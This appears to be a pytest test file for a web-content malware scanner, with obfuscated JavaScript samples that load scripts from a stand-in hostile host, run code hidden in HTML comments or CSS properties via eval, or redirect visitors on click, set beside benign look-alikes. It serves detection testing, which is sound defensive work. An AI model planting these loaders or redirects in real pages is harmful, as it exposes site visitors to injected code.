"""Code and addresses that are hidden, and what of the kind is honest."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome
from tests.checks.content.reading import b64
from tests.checks.content.scripting import EVIL, in_file, on_page

LOAD = f"var s=document.createElement('script');s.src='{EVIL}/a.js';document.body.appendChild(s)"


def xored(text: str, key: int) -> str:
    return ",".join(str(ord(c) ^ key) for c in text)


def shuffled(text: str) -> list[tuple[int, str]]:
    pieces = [(n, text[at : at + 7]) for n, at in enumerate(range(0, len(text), 7))]
    return sorted(pieces, key=lambda pair: pair[1])


PAIRS = ",".join(f'[{n},"{piece}"]' for n, piece in shuffled(b64(EVIL + "/m.js")))
OBJECTS = ",".join(f'{{i:{n},t:"{piece}"}}' for n, piece in shuffled(b64(EVIL + "/m.js")))

LOADERS = {
    "numbers of eight bits, each changed": (
        f"setTimeout(String.fromCharCode.apply(null,new Uint8Array([{xored(LOAD, 91)}])"
        ".map(function(b){return b^91})),300)"
    ),
    "numbers that are decoded": (
        f"new Function(new TextDecoder().decode(new Uint8Array([{xored(LOAD, 0)}])))()"
    ),
    "numbers from a list, moved by an arrow": (
        "eval(String.fromCharCode(...Array.from(["
        + ",".join(str(ord(c) + 3) for c in LOAD)
        + "],c=>c-3)))"
    ),
    "numbers changed by twice their place": (
        f"eval(new TextDecoder('utf-8').decode(Uint8Array.from([{xored(LOAD, 7)}],x=>x^7)))"
    ),
    "pairs of numbers and pieces": (
        f"const k=[{PAIRS}];import(atob(k.sort((a,b)=>a[0]-b[0]).map(x=>x[1]).join('')))"
    ),
    "objects with numbers and pieces": (
        f"let k=[{OBJECTS}],s=document.createElement('script');k.sort((a,b)=>a.i-b.i);"
        "s.src=atob(k.map(o=>o.t).join(''));document.head.append(s)"
    ),
    "a host whose name is made by the clock": (
        "var t=Math.floor(Date.now()/6e5),e=document.createElement('script');e.src='https://'"
        "+t.toString(36)+'.'+['tap','stat'].join('-')+'.example/'+t+'.js';document.head.append(e)"
    ),
}
KEPT = {
    "a comment before the script": (
        "(function(n){while(n=n.previousSibling)if(n.nodeType===8){document.write(atob(n.data));"
        "break}})(document.currentScript)"
    ),
    "a comment that is sought": (
        "var w=document.createTreeWalker(document,NodeFilter.SHOW_COMMENT),c=w.nextNode();"
        "new Function(atob(c.nodeValue))()"
    ),
    "a comment among the children": (
        "[].forEach.call(document.body.childNodes,function(n){if(8==n.nodeType)eval("
        "decodeURIComponent(atob(n.textContent)))})"
    ),
    "a property of the style sheet": (
        "const g=getComputedStyle(document.documentElement).getPropertyValue('--font-src').trim();"
        "const u=document.createElement('scr'+'ipt');u.src='https:'+g;document.head.append(u)"
    ),
    "a property, read where it is used": (
        "var s=document.createElement('script');s.src=getComputedStyle(document.body)"
        ".getPropertyValue('--x').slice(1,-1);document.body.appendChild(s)"
    ),
    "an attribute, by a constructor's other name": (
        "var k=window['at'+'ob'],f=(function(){}).constructor;"
        "f(k(el.getAttribute('data-gs').split('-').join('')))()"
    ),
    "a text, by the constructor of a list's method": (
        "var g=[].map.constructor;g(atob(document.querySelector('#x').textContent))()"
    ),
}
HONEST = {
    "a shell that is locked to its domain": (
        "function _0x3(a){return ['getElementById','x'][a-1]}!function(){const _0x7=_0x3;if(window"
        "['location']['hostname']!=='a.example'){document['body'][_0x7(0x1a6)]=atob(_0x7(0x1aa))}"
        "const r=document[_0x7(0x1a5)]('akar')}()"
    ),
    "a mail address by eval": (
        "eval(unescape('%64%6F%63%75%6D%65%6E%74%2E%77%72%69%74%65%28%27%3C%61%20%68%72%65%66%3D"
        "%22%6D%61%69%6C%74%6F%3A%61%40%62%2E%74%65%73%74%22%3E%78%3C%2F%61%3E%27%29'))"
    ),
    "a library that looks for comments": (
        "function t(n){if(n.nodeType===8)return;if(n.nodeType===1)isi(n)}"
        "document.querySelector('#peta').innerHTML=cetak(data)"
    ),
    "a picture in base64, far from the comments": (
        f"function t(n){{if(n.nodeType===8)return}}{'a();' * 200}k.innerHTML=atob(k.dataset.svg)"
    ),
    "a colour of the style sheet": (
        "var w=getComputedStyle(document.body).getPropertyValue('--warna').trim();"
        "var s=document.createElement('script');s.src='/js/grafik.js';document.body.append(s);"
        "grafik(w)"
    ),
    "a class of the same kind": "var K=this.constructor;var b=new K(atob(el.dataset.isi))",
    "a font in a list of numbers": (
        "var f=new FontFace('Ikon',new Uint8Array([0,1,0,0,0,12,0,128]).map(b=>b^0).buffer);"
        "document.fonts.add(f)"
    ),
    "rows of a table": "var d=[[1,'Senin'],[2,'Selasa'],[3,'Rabu']];d.sort((a,b)=>a[0]-b[0])",
    "a vendor's host by region": (
        "var e=document.createElement('script');e.src='https://'+wilayah+'.peta.example/w.js';"
        "document.head.append(e)"
    ),
    "settings in an object": (
        "var c={api:'https://api.vendor.example/v1',batas:5};fetch(c.api+'/berita"
        "').then(r=>r.json())"
    ),
}


@pytest.mark.parametrize("name", LOADERS)
def test_addresses_in_other_disguises(name: str) -> None:
    assert on_page(LOADERS[name]).message == "loader"
    assert in_file(LOADERS[name]).message == "loader"


@pytest.mark.parametrize("name", KEPT)
def test_code_that_is_kept_elsewhere_in_the_page(name: str) -> None:
    assert on_page(KEPT[name]).message == "kept"
    assert in_file(KEPT[name]).message == "kept"


@pytest.mark.parametrize("name", HONEST)
def test_their_honest_counterparts(name: str) -> None:
    verdict = on_page(HONEST[name])
    assert verdict.outcome is Outcome.PASS, verdict
    assert in_file(HONEST[name]).outcome is Outcome.PASS


TRAPS = {
    "an object's member": (
        f"var p={{u:'{EVIL}/?s=1',k:'t'}};document.addEventListener('touchstart',function(){{"
        "localStorage.setItem(p.k,1);window.location.href=p.u})"
    ),
    "a nested setting by brackets": (
        f"const cfg={{'to':'{EVIL}/p'}};document.onclick=function(){{window.open(cfg['to'])}}"
    ),
    "chance": f"if(Math.random()<.3){{location.href='{EVIL}/c'}}",
}


@pytest.mark.parametrize("name", TRAPS)
def test_traps_by_way_of_settings_or_chance(name: str) -> None:
    assert on_page(TRAPS[name]).message == "visitors"


@pytest.mark.parametrize(
    "source",
    [
        "var p={u:'/beranda'};document.onclick=function(){location.href=p.u}",
        f"var p={{u:'{EVIL}'}};p.u='/beranda';document.onclick=function(){{location.href=p.u}}",
        f"var i=Math.random();var p={{u:'{EVIL}/a'}};tampil(p.u)",
        "if(Math.random()<.5){location.href='/versi-b'}",
        "if(Math.random()<.1){fetch('https://ukur.example/c?u='+location.pathname)}",
    ],
)
def test_settings_and_chance_of_honest_pages(source: str) -> None:
    assert on_page(source).outcome is Outcome.PASS
